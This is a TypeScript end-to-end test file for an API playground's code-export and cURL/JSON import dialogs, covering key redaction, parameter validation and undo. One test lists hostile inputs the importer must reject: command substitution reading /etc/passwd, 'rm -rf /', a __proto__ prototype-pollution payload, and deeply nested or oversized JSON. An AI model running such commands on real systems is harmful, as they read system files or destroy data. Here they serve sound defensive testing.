import { expect, test } from './support/test';

const KEY = `sk-or-v1-${'0123456789abcdef'.repeat(4)}`;
const LANGUAGES = ['cURL', 'Python', 'TypeScript', 'AI SDK', 'fetch'];

test('the request is shown as code in every language, and never with a key', async ({ playground, page, context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await playground.open();
  await playground.chooseModel('simulator/flood');
  await playground.composer.fill("It's a draft.");
  await page.getByRole('button', { name: 'Code', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Code' });
  const code = dialog.getByRole('region', { name: /^Code/ });
  for (const language of LANGUAGES) {
    await dialog.getByRole('radio', { name: language, exact: true }).check();
    await expect(code).toContainText('simulator/flood');
    await expect(code).toContainText('a draft.');
    await expect(code).toContainText('OPENROUTER_API_KEY');
    // With the headers that the pane's own request has.
    await expect(code).toContainText('x-openrouter-title');
    await expect(code).toContainText('OpenRouter Playground');
    await expect(code).not.toContainText('sk-or');
    await expect(code).not.toContainText('••••');
  }
  await expect(code).toContainText('stream: true');
  await dialog.getByRole('switch', { name: 'Streaming' }).click();
  await expect(code).toContainText('stream: false');

  await dialog.getByRole('button', { name: 'Copy code' }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(await code.textContent());

  // What was chosen is there the next time.
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('button', { name: 'Code', exact: true })).toBeFocused();
  await playground.reload();
  await page.getByRole('button', { name: 'Code', exact: true }).click();
  await expect(dialog.getByRole('radio', { name: 'fetch' })).toBeChecked();
  await expect(dialog.getByRole('switch', { name: 'Streaming' })).not.toBeChecked();
});

test('a pasted cURL command becomes the pane that sends it', async ({ playground, page, upstream }) => {
  await playground.open();
  await playground.composer.fill('Not to be lost.');
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Import' });
  const body = {
    model: 'simulator/flood',
    messages: [
      { role: 'system', content: 'Be brief.' },
      { role: 'user', content: 'Imported question' },
    ],
    temperature: 0.4,
    future_field: { a: 1 },
    top_p: 7,
  };
  await dialog
    .getByRole('textbox', { name: 'cURL command or JSON body' })
    .fill(
      `curl https://openrouter.ai/api/v1/chat/completions -H 'Authorization: Bearer ${KEY}' -d '${JSON.stringify(body)}'`,
    );
  await expect(dialog.getByRole('region', { name: 'Will be set' })).toContainText('simulator/flood');
  const remarks = dialog.getByRole('region', { name: 'Left out, or put elsewhere' });
  await expect(remarks).toContainText('A key was left out');
  await expect(remarks).toContainText('Top P must be between 0 and 1.');
  await expect(remarks).toContainText('“future_field”');
  await expect(remarks).not.toContainText('sk-or');

  // Nothing is applied before the press.
  await expect(playground.composer).toHaveValue('Not to be lost.');
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await expect(dialog).toBeHidden();
  await expect(playground.composer).toHaveValue('Imported question');
  await expect(playground.modelButton().first()).toHaveAccessibleName(/flood/i);
  await expect(page.getByRole('spinbutton', { name: 'Temperature' })).toHaveValue('0.4');

  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(playground.composer).toHaveValue('Not to be lost.');
  await expect(playground.modelButton().first()).not.toHaveAccessibleName(/flood/i);

  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await dialog.getByRole('textbox', { name: 'cURL command or JSON body' }).fill(JSON.stringify(body));
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await playground.composer.press('Enter');
  await playground.finished();
  const arrived = JSON.parse((await upstream.arrived('Imported question')).body) as Record<string, unknown>;
  const { top_p: _, ...applied } = body;
  expect(arrived).toEqual({ ...applied, stream: true });
});

test('undo of an import brings the settings back and keeps what was said since', async ({ playground, page }) => {
  await playground.open();
  await playground.chooseModel('simulator/flood');
  await playground.setParameter('Max tokens', '30');
  await playground.askAndWait('Said before.');
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Import' });
  const body = { model: 'simulator/flood', messages: [{ role: 'user', content: 'Imported.' }], max_tokens: 40 };
  await dialog.getByRole('textbox', { name: 'cURL command or JSON body' }).fill(JSON.stringify(body));
  await dialog.getByRole('button', { name: 'Apply' }).click();
  await expect(playground.messages).toHaveCount(0);
  // The offer to undo goes by itself, but never under a hand.
  await page.getByRole('button', { name: 'Undo' }).hover();
  await playground.composer.press('Enter');
  await expect(playground.question('Imported.')).toBeVisible();
  await playground.finished();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByRole('spinbutton', { name: 'Max tokens' })).toHaveValue('30');
  await expect(playground.messages).toHaveCount(2);
  await expect(playground.question('Imported.')).toBeVisible();
  await playground
    .question('Imported.')
    .getByRole('button', { name: /previous/i })
    .click();
  await expect(playground.question('Said before.')).toBeVisible();
});

test('what cannot be read gives a sentence and changes nothing', async ({ playground, page }) => {
  await playground.open();
  await playground.composer.fill('Untouched.');
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'Import' });
  const box = dialog.getByRole('textbox', { name: 'cURL command or JSON body' });
  const apply = dialog.getByRole('button', { name: 'Apply' });
  const hostile: [string, RegExp][] = [
    ['curl https://x.test -d @secrets.json', /is in a file/],
    ['curl https://x.test -d "$(cat /etc/passwd)"', /cannot be run here/],
    [`{"model":"a/b","messages":${'['.repeat(5000)}`, /nested deeper/],
    ['{"model":"a/b","__proto__":{"polluted":true}}', /not allowed/],
    [`{"model":"${'x'.repeat(300_000)}"}`, /longer than/],
    ['rm -rf /', /begins with “curl”/],
  ];
  for (const [text, sentence] of hostile) {
    await box.fill(text);
    await expect(box).toHaveAccessibleDescription(sentence);
    await expect(apply).toHaveAttribute('aria-disabled', 'true');
    await apply.press('Enter');
    await expect(dialog).toBeVisible();
  }
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(playground.composer).toHaveValue('Untouched.');
  await expect(playground.messages).toHaveCount(0);
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
});
